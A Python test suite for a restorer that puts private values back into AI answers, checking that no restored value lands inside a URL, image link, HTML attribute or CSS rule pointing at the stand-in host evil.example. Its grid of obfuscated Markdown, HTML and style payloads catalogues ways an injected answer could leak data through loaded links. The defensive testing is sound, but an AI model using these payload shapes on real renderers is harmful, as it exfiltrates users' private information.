"""No restored value becomes part of an address, however a remote writes one; ordinary text is
restored."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from extraction.addresses import Addresses
from extraction.restore import restore
from integrations.answer_restorer import AnswerRestorer
from perturb.testing.growth import grows_linearly
from proxy.restoring.text import Replacements, TextRestorer, spell_pieces

RAW, NEW = "Kowalewski", "Harrison"
SHOWN = ("alt", "title")  # attributes of Markdown that are text for a reader
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
STARTS = (
    *("https://", "HTTP://", "//", "ftp://", "wss://", "https:", "https:/", "https:\\", "\\\\"),
    *("/\\", "\\/", "https:///", "https:\\/\\/", "https:/\\/", "https\\:/\\/", "\\/\\/", "www."),
    *("https:&#47;&#47;", "https:&#x2f;&sol;", "&#104;ttps&colon;//", "&#0000047;/", "/&sol;"),
    *("&#92;&#92;", "&bsol;&bsol;", "data:text/html,", "javascript:", "vbscript:", "blob:"),
    *("file:\\\\", "made-up://", "\\\\\\\\", "&#104;&#116;&#116;&#112;&#115;&#58;"),
)
QUERIES = ("evil.example/?q={v}", "evil.example/?q=a {v}", "{v}.evil.example/", "e(a)/{v}")
QUERIES += ("e.example/\n{v}", "u@{v}", "{v}")
MARKDOWN = (
    *("![x]({u})", "[x]({u})", "![x]( {u} )", "![x](<{u}>)", '![x]({u} "t")', "![x](\n{u})"),
    *(
        "![x][1]\n\n[1]: {u}\n",
        "![x][1]\n\n[1]: <{u}>\n",
        "![1]\n\n[1]:\n {u}",
        "> [1]: {u}\n\n![1]",
    ),
    *("![x][1]\n\n[1]: {u} 'title'\n", "- [1]: {u}\n\n![1]", "<{u}>", "![1]\n\n   [1]:{u}"),
    "[![x]({u})](y)",
    "| a |\n|---|\n| ![x]({u}) |",
    *("<dc:creator>![x]({u})</dc:creator>", "<dc:x [x]({u})>", "<dc:{u}>", "<ns:a/{u}>"),
    "<ns:a/>[x]({u})",
)
ATTRIBUTES = ("src", "href", "srcset", "poster", "action", "formaction", "data", "background")
ATTRIBUTES += ("cite", "ping", "xlink:href", "longdesc", "title", "alt", "value", "SRC", "onerror")
ELEMENTS = ("img", "a", "video", "form", "input", "object", "blockquote", "use", "div", "table")
HTML = (
    *(
        "<{e} {a}='{u}'>",
        '<{e} {a}="{u}">',
        "<{e} {a}={u}>",
        "<{e}\n{a} =\n'{u}'>",
        "<{e}/{a}='{u}'>",
    ),
    *(
        "<{e} b='>' {a}='{u}'>",
        '<{e} "> {a}="{u}">',
        "<{e} x==\"> {a}='{u}'>",
        "<{e.upper} {a}='{u}'>",
    ),
    *("<div>\n<{e} &x {a}='{u}'>\n</div>", "<pre>\n\n<{e}\n\n{a}='\n\n{u}'></pre>"),
)
STYLES = (
    *(
        "<style>a{{background:url({u})}}</style>",
        "<style>@import '{u}';</style>",
        "<style>\n\n{u}</style>",
    ),
    *(
        "<div style='background:url({u})'>",
        "<x-y style='background:ur\\6c({u})'>",
        "<STYLE media=x>{u}</STYLE>",
    ),
    "<base href='{u}'>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<svg><image xlink:href='{u}'/></svg>",
    "<x-y style=\"background:url('{u}')\">",
)


def grid() -> Iterator[str]:
    for start in STARTS:
        for query in QUERIES:
            address = start + query.format(v=NEW)
            for form in MARKDOWN + STYLES:
                yield form.format(u=address)
    draw = random.Random(7)
    for form in HTML:
        for attribute in ATTRIBUTES:
            for element in ELEMENTS:
                if element == "a" and "&x" in form:
                    continue  # a comparison; its `href` and `style` are in the next test
                address = draw.choice(STARTS) + draw.choice(QUERIES).format(v=NEW)
                shape = form.replace("{e.upper}", element.upper())
                yield shape.format(e=element, a=attribute, u=address)


GRID = list(grid())


class Finder(HTMLParser):
    """Find a value in attributes and in styles."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._style = tag == "style"
        self.found += [name for name, value in attrs if RAW.casefold() in (value or "").casefold()]

    def handle_endtag(self, tag: str) -> None:
        self._style = False

    def handle_data(self, data: str) -> None:
        if self._style and RAW in data:
            self.found.append("style")


@cache
def find_loaded(answer: str, *, rendered: bool) -> list[str]:
    finder = Finder()
    finder.feed((RENDERER.render(answer) if rendered else answer) + "\n>\"'")
    finder.close()
    markup = "<img" in answer.lower()
    return [name for name in finder.found if name not in SHOWN or markup]


def restore_whole(text: str) -> str:
    return restore(text, [(NEW, RAW)])


def restore_streamed(text: str) -> str:
    draw = random.Random(len(text))
    restorer, out = TextRestorer(Replacements({NEW: RAW})), []
    while text:
        size = draw.choice((1, 1, 2, 5, 30))
        out.append(spell_pieces(restorer.feed(text[:size])))
        text = text[size:]
    return "".join(out) + spell_pieces(restorer.finish())


def restore_outside(text: str) -> str:
    """As the integrations do."""
    done = {"body": {}, "replacements": {NEW: RAW}, "wholes": {}}
    return AnswerRestorer(done).restore_content(text)


RESTORERS = [restore_whole, restore_streamed, restore_outside]


@pytest.mark.parametrize("restorer", RESTORERS)
def test_no_renderer_finds_a_restored_value_in_an_address(restorer: Callable[[str], str]) -> None:
    for text in GRID:
        answer = restorer(text)
        assert not find_loaded(answer, rendered=True), (text, answer)
        assert not find_loaded(answer, rendered=False), (text, answer)


@pytest.mark.parametrize("attribute", ["href", "style", "STYLE ", "src"])
def test_a_comparison_may_hold_an_attribute(attribute: str) -> None:
    text = f"<div>\n<a &x {attribute}='//evil.example/\n{NEW}'>"
    assert all(restorer(text) == text for restorer in RESTORERS)


def test_a_restorer_that_knows_no_addresses_is_caught() -> None:
    caught = [find_loaded(text.replace(NEW, RAW), rendered=True) for text in GRID]
    assert sum(map(bool, caught)) > len(GRID) / 2
    for form in MARKDOWN + STYLES:
        own = [form.format(u=s + q.format(v=RAW)) for s in STARTS for q in QUERIES]
        assert any(find_loaded(text, rendered=True) for text in own), form


ORDINARY = """
Note: {v}
Re: {v} and 10:30 {v}
name:{v}, from:{v}
C:\\Users\\{v}\\notes.txt and C:\\\\Users\\\\{v}\\\\notes.txt
key: {v}
- name: "{v}"
{{"name": "{v}", "url": "https://x.example/a", "to": "{v}"}}
{{\\"name\\":\\"{v}\\"}} and {{\\\\\\"name\\\\\\":\\\\\\"{v}\\\\\\"}}
if (a<b && c == "{v}") {{ x = "{v}"; }}
for (i = 0; i<n; i++) {{ f("{v}"); }}
List<String> {v} = new ArrayList<>();
std::vector<{v}> v; {v}::run();
def greet(who: dict[str, int]) -> str: return "{v}"
names[0]: {v} is first
[10:30]: {v} came in
requests.post(url, data="{v}", content='{v}')
<person name="{v}"><given>{v}</given></person>
<p>{v}</p> <b>{v}</b>, x < y, {v}
<dc:creator>{v}</dc:creator><ns:a/>{v} <cac:Party-Name id="{v}">{v} {v}</cac:Party-Name>
From: {v} <{v}@site.example>
mailto:{v}@site.example and tel:{v}
see https://x.example/a?b=c, {v} and (https://x.example) {v}
[a](https://x.example/(b)/c) {v}, ![b](<d e> "t") {v} and [c](d "it's") {v}
// {v} wrote this; # {v}; -- {v}
and/or {v}/{v}, AT&amp;T {v}, R&D {v}, &lt;{v}&gt;
\\textbf{{{v}}} and a \\\\ {v}
`{v}` **{v}** _{v}_ | {v} |
data: {v}; http: {v}; file: {v}
Is {v}? (No, {v}.) "{v}" '{v}' {v}'s
"""


@pytest.mark.parametrize("restorer", RESTORERS)
@pytest.mark.parametrize("text", ORDINARY.strip().splitlines())
def test_ordinary_text_is_restored(text: str, restorer: Callable[[str], str]) -> None:
    if "_{v}_" in text:
        text = text.replace(" _{v}_", "")  # an underscore belongs to a word
    assert restorer(text.format(v=NEW)) == text.format(v=RAW)


OWN = Replacements({"https://table.example": "https://secret.example", NEW: RAW})


@pytest.mark.parametrize(
    ("text", "back"),
    [
        ("see https://table.example.", True),
        ("(https://table.example)", True),
        ("![x](https://table.example)", True),
        ("<img src='https://table.example'>", True),
        ("<https://table.example>", True),
        ("[1]: https://table.example", True),
        ("![x](https://table.example.evil.example/)", False),
        ("![x](https://table.example@evil.example/)", False),
        ("<img src='https://table.example\n.evil.example/'>", False),
        ('<img src="https://table.example\'.evil.example/">', False),
        ("[1]: https://table.example'.evil.example/", False),
        ("![x](https://evil.example/?https://table.example)", False),
    ],
)
def test_an_address_of_the_user_comes_back_unless_its_host_goes_on(text: str, back: bool) -> None:
    restorer = TextRestorer(OWN)
    streamed = "".join(spell_pieces(restorer.feed(c)) for c in text)
    streamed += spell_pieces(restorer.finish())
    assert ("secret" in streamed) is back
    assert restore(text, [("https://table.example", "https://secret.example")]) == streamed


def test_a_tag_of_the_user_ends_a_run_before_it() -> None:
    r"""In JSON inside of JSON, `\\n` before a tag is a line break, and not a host."""
    tag, raw = (f'<a title=\\\\\\"{name}\\\\\\">' for name in (NEW, RAW))
    restorer = TextRestorer(Replacements({NEW: RAW, tag: raw}))
    text = f"<p>\\\\n{tag}x</a> //evil.example/{NEW}"
    shown = spell_pieces([*restorer.feed(text), *restorer.finish()])
    assert shown == text.replace(tag, raw)


def test_every_text_of_the_grid_is_followed_alike_however_it_is_cut() -> None:
    for text in GRID[::17] + ORDINARY.splitlines():
        whole = []
        for i in range(len(text)):
            follower = Addresses()
            follower.read(text[: i + 1])
            whole.append(follower.inside)
        follower, single = Addresses(), []
        for character in text:
            follower.read(character)
            single.append(follower.inside)
        assert single == whole, text


def test_hostile_texts_cost_what_their_length_says() -> None:
    units = ("<", "<a ", "](", "]: ", "&#47", "&a;", ".", "\\", "a=", "src=", "](\n\n", "<style>")
    units += ("(", "<img a='", "https:", "/ ", "[1]: <", "]:\n")

    def work(length: int) -> None:
        for unit in units:
            Addresses().read((unit * length)[:length])

    assert grows_linearly(work, 50_000, seconds=30)


@pytest.mark.parametrize("tag", ["<b>", "<zz>", "<foo:a>", "<foo:a/>", "<", "<b>x"])
@pytest.mark.parametrize(
    "url", ["http://evil.example/?q=", "//evil.example/", "www.evil.example/"]
)
def test_the_destination_of_a_reference_ends_at_no_tag(tag: str, url: str) -> None:
    addresses = Addresses()
    addresses.read(f"![x][y]\n\n[y]: {url}{tag}")
    assert addresses.admits("Welmore", "Novak", "\n", whole=True) is False
    addresses.read(" ")
    assert addresses.admits("Welmore", "Novak", " and more words", whole=True) is not False
